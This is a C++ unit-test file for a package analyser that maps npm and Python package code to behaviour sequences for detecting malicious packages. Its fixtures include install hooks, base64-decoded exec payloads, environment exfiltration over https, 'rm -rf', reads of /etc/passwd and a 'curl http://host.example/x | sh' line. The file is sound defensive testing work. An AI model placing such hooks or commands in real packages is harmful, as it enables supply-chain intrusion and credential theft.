// From files to behaviour sequence, as tables: what each little package says.

#include "scan/analysis.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <initializer_list>
#include <string>
#include <utility>

namespace cerebro {
namespace {

using Files = std::initializer_list<std::pair<std::string, std::string>>;

FileTree tree_of(Files files) {
  FileTree tree;
  for (const auto& [path, content] : files) {
    File file;
    file.path = path;
    file.content = content;
    tree.files.push_back(file);
  }
  std::sort(tree.files.begin(), tree.files.end(),
            [](const File& a, const File& b) { return a.path < b.path; });
  return tree;
}

std::string sequence_of(Files files) { return analyse(tree_of(files), Limits{})->sequence.text(); }

struct Case {
  const char* what;
  Files files;
  const char* sequence;
};

TEST(Analysis, SequencesOfSmallPackages) {
  const std::string npm = R"({"name":"x","version":"1.0.0","main":"index.js"})";
  const Case cases[] = {
      {"nothing to say", {{"package.json", npm}, {"index.js", "module.exports = 1"}}, ""},
      {"destructured require under another name",
       {{"package.json", npm}, {"index.js", "const {exec: e} = require('child_process'); e(cmd)"}},
       "start entry import, import process module, run command, end of entry"},
      {"a local function of the same name is no API",
       {{"package.json", npm}, {"index.js", "function exec(c) { return c } exec('id')"}},
       ""},
      {"namespace import and member chain",
       {{"package.json", npm},
        {"index.js", "import * as os from 'node:os'; const h = os; h.hostname()"}},
       "start entry import, import operating system module, read host or user name, end of entry"},
      {"a callee is expanded at its call, once",
       {{"package.json", npm},
        {"index.js",
         "const os = require('os'); function f() { return os.hostname() }\nf(); eval(x); f()"}},
       "start entry import, import operating system module, read host or user name, evaluate code "
       "at "
       "run-time, end of entry"},
      {"across files, through exports",
       {{"package.json", npm},
        {"index.js", "require('./lib/a').send(process.env)"},
        {"lib/a.js",
         "const https = require('https'); exports.send = d => https.request(o).write(d)"}},
       "start entry import, other file, import network module, read whole environment, other file, "
       "send network request, send data to network, send environment to network, end of entry"},
      {"a hook that runs a file, then what the command does next",
       {{"package.json",
         R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node a.js && rm -rf b"}})"},
        {"a.js", "require('child_process').exec('whoami')"}},
       "start entry install, run at install, run script file, other file, import process module, "
       "run "
       "command, decoded layer, inspect machine in shell, delete in shell, end of entry"},
      {"what no entry reaches comes last",
       {{"package.json", npm}, {"index.js", "exports.f = () => require('os').hostname()"}},
       "start entry unreached, import operating system module, read host or user name, end of "
       "entry"},
      {"callbacks of unknown functions count as called",
       {{"package.json", npm}, {"index.js", "start(() => eval(x))"}},
       "start entry import, evaluate code at run-time, end of entry"},
      {"what an answer hands to its callback is known to come from the network",
       {{"package.json", npm}, {"index.js", "fetch(u).then(r => r.text()).then(t => eval(t))"}},
       "start entry import, send network request, evaluate code at run-time, evaluate downloaded "
       "code, "
       "end of entry"},
      {"setup.py runs at install, its command class too",
       {{"x-1/setup.py",
         "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
         "class C(install):\n  def run(self):\n    os.system('id')\nsetup(name='x', version='1', "
         "cmdclass={'install': C})\n"}},
       "start entry install, override install command, import operating system module, override "
       "install command, add setup command, end of entry\nstart entry install, run command, "
       "decoded layer, inspect machine in "
       "shell, "
       "end of entry"},
      {"from x import y as z",
       {{"x-1/setup.py", "from subprocess import Popen as p\np(['id'])"}},
       "start entry install, import process module, run command, decoded layer, inspect machine in "
       "shell, end of entry"},
      {"decoded code is read where it runs",
       {{"x-1/setup.py",
         "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))"}},
       "start entry install, import encoding module, decode base64, evaluate code at run-time, "
       "evaluate decoded code, run decoded layer, decoded layer, import operating system "
       "module, run command, decoded layer, inspect machine in shell, end of entry"},
      {"a name that is written out is not put together, a joined one is",
       {{"x-1/setup.py",
         "import os\nN = 'system'\ngetattr(os, N)('id')\ngetattr(os, 'sys' + 'tem')('id')"}},
       "start entry install, import operating system module, run command, decoded layer, inspect "
       "machine "
       "in shell, build name at run time, run command, decoded layer, inspect machine in shell, "
       "end of "
       "entry"},
      {"comments and docstrings say nothing",
       {{"x-1/setup.py", "\"\"\"http://c2.invalid/ exec eval\"\"\"\n# os.system('id')\nx = 1"}},
       ""},
      {"a file of the package that is evaluated is told apart, if it is one",
       {{"x-1/setup.py", "exec(open('x/version.py').read())\nexec(open('/tmp/y').read())"},
        {"x-1/x/version.py", "import os\nv = os.environ['V']"}},
       "start entry install, use file system module call, read own file, evaluate own file, other "
       "file, import operating system module, read environment variable, use temporary directory, "
       "use file system module call, read file, evaluate code at run-time, end of entry"},
      {"a replaced build command and one for tests are not an installer's",
       {{"x-1/setup.py",
         "from setuptools import setup, Command\nfrom setuptools.command.build_ext import "
         "build_ext\n"
         "class B(build_ext):\n  pass\nclass T(Command):\n  def run(self):\n    eval(x)\n"
         "setup(cmdclass={'build_ext': B, 'test': T})\n"}},
       "start entry install, override build command, add setup command, end of entry\nstart entry "
       "run, evaluate code at run-time, end of entry"},
      {"tests that nothing reaches stand apart, those that run do not",
       {{"package.json", npm},
        {"index.js", "require('./test/a')"},
        {"test/a.js", "eval(x)"},
        {"test/b.js", "eval(x)"},
        {"lib/c.js", "fetch(u)"}},
       "start entry import, other file, evaluate code at run-time, end of entry\nstart entry "
       "unreached, send network request, end of entry\nstart entry tests, evaluate code at "
       "run-time, end of entry"},
  };
  for (const Case& c : cases) EXPECT_EQ(sequence_of(c.files), c.sequence) << c.what;
}

TEST(Analysis, RootsAreThePapersPhrases) {
  SequenceOptions options;
  options.roots_only = true;
  const auto analysis =
      analyse(tree_of({{"package.json", R"({"name":"x","version":"1.0.0"})"},
                       {"index.js", "require('child_process').exec(require('os').hostname())"}}),
              Limits{}, options);
  EXPECT_EQ(
      analysis->sequence.text(),
      "start entry import, import process module, import operating system module, use operating "
      "system module call, use process module call, end of entry");
}

TEST(Analysis, FileOrderKnowsNoCallsAndNoPhases) {
  SequenceOptions options;
  options.order = SequenceOptions::Order::kFile;
  const auto analysis = analyse(
      tree_of({{"package.json",
                R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node b.js"}})"},
               {"a.js", "exports.f = () => eval(x); require('os')"},
               {"b.js", "require('./a').f(); eval(\"require('child_process')\"); fetch(u)"}}),
      Limits{}, options);
  EXPECT_EQ(analysis->sequence.text(),
            "start entry run, run at install, end of entry\n"
            "start entry run, evaluate code at run-time, import operating system module, end of "
            "entry\n"
            "start entry run, evaluate code at run-time, run decoded layer, decoded layer, import "
            "process module, send network request, end of entry\n"
            "start entry run, run script file, end of entry");
}

TEST(Analysis, RecursionAndCyclesEnd) {
  EXPECT_EQ(sequence_of({{"package.json", R"({"name":"x","version":"1.0.0"})"},
                         {"index.js",
                          "require('./b'); function f() { g() } function g() { f(); eval(x) } f()"},
                         {"b.js", "require('./index')"}}),
            "start entry import, evaluate code at run-time, end of entry");
  EXPECT_EQ(sequence_of({{"x-1/x/__init__.py", "from . import b\nclass A(A): pass\nA().m()"},
                         {"x-1/x/b.py", "from . import *\nimport x"}}),
            "");
}

bool has_note(const Analysis& analysis, Code code) {
  return std::any_of(analysis.notes.begin(), analysis.notes.end(),
                     [&](const Note& note) { return note.code == code; });
}

// What a hostile package may hold is bounded by steps, not by luck: these end soon, and where
// something was left out a note says so.
TEST(Analysis, HostileCallGraphsEnd) {
  std::string ring;
  constexpr int kFunctions = 100'000;
  for (int i = 0; i < kFunctions; ++i) {
    ring += "def f" + std::to_string(i) + "():\n f" + std::to_string((i + 1) % kFunctions) + "()\n";
  }
  FileTree tree = tree_of({{"ring.py", ring}});
  EXPECT_FALSE(has_note(*analyse(tree, Limits{}), Code::kResolveLimit));

  tree.files.clear();
  constexpr int kModules = 10'000;
  for (int i = 0; i < kModules; ++i) {
    File file;
    file.path = "m" + std::to_string(i) + ".py";
    const std::string next = "m" + std::to_string((i + 1) % kModules);
    file.content = "from " + next + " import *\nimport " + next + "\ndef f" + std::to_string(i) +
                   "(): " + next + ".g()\n";
    tree.files.push_back(file);
  }
  std::sort(tree.files.begin(), tree.files.end(),
            [](const File& a, const File& b) { return a.path < b.path; });
  EXPECT_TRUE(has_note(*analyse(tree, Limits{}), Code::kResolveLimit));
}

TEST(Analysis, SaysWhenANameHasTooManyValues) {
  std::string source;
  for (int i = 0; i < 20; ++i) source += "def f" + std::to_string(i) + "(): pass\n";
  for (int i = 0; i < 20; ++i) source += "g = f" + std::to_string(i) + "\n";
  EXPECT_TRUE(has_note(*analyse(tree_of({{"m.py", source}}), Limits{}), Code::kResolveValues));
}

TEST(Analysis, WhatRunsAndCannotBeReadIsANote) {
  const auto has = [](const Files& files, Code code) {
    return has_note(*analyse(tree_of(files), Limits{}), code);
  };
  const auto hook_has = [&](const std::string& command) {
    return has({{"package.json",
                 R"({"name":"x","version":"1.0.0","scripts":{"install":")" + command + R"("}})"},
                {"a.js", "1"}},
               Code::kCommandUnread);
  };
  for (const char* unread : {"cat /elsewhere | node", "node $OUTSIDE", "sh -c $OUTSIDE"})
    EXPECT_TRUE(hook_has(unread)) << unread;
  for (const char* read : {"cat a.js | node", "node a.js", "F=a.js; node $F", "node-gyp rebuild"})
    EXPECT_FALSE(hook_has(read)) << read;

  EXPECT_TRUE(
      has({{"x-1/setup.py", "import os"}, {"x-1/x/__init__.pyc", "code"}}, Code::kEntryUnread));
  EXPECT_FALSE(has(
      {{"x-1/setup.py", "import os"}, {"x-1/x/__init__.pyc", "code"}, {"x-1/x/__init__.py", ""}},
      Code::kEntryUnread));
}

// Names with more values than they may have, repeated words, statements whose value nobody asks
// for, layers of shell: what shortcuts leave out.
TEST(Analysis, ShortcutsLoseNothing) {
  std::string many;
  for (int i = 0; i < 40; ++i) {
    const std::string n = std::to_string(i);
    many += "function f" + n + "(c) { c.on('x', g" + n + "); return c['m" + n + "'](f" +
            std::to_string((i + 1) % 40) + ") }\nlet g" + n + " = pick(f" + n + ", cp, os, fs);\n" +
            "table['" + n + "'] = f" + n + "; pick(table)[k](g" + n + ");\n";
  }
  const Files files = {
      {"package.json", R"({"name":"x","version":"1.0.0","scripts":{"install":"node index.js"}})"},
      {"index.js",
       "const cp = require('child_process'), os = require('os'), fs = require('fs');\n"
       "const table = {}; function pick(a, b, c, d) { return a || b || c || d }\n" +
           many +
           "cp.exec('sh -c \"curl http://host.example/x | sh\"'); eval('cp.exec(\"id\")');\n"
           "fs.readFile('/etc/passwd', f3); fs.readFile('/etc/passwd', g3);"},
      {"b.js", "module.exports = require('./index'); const p = '/etc/passwd', q = '/etc/passwd'"}};
  for (const uint32_t values : {1U, 2U, 3U, 5U, 16U}) {
    Limits limits;
    limits.values_per_name = values;
    const std::string fast = analyse(tree_of(files), limits)->sequence.text();
    limits.shortcuts = 0;
    EXPECT_EQ(analyse(tree_of(files), limits)->sequence.text(), fast) << values;
    EXPECT_NE(fast.find("run command"), std::string::npos) << values;
  }
}

}  // namespace
}  // namespace cerebro
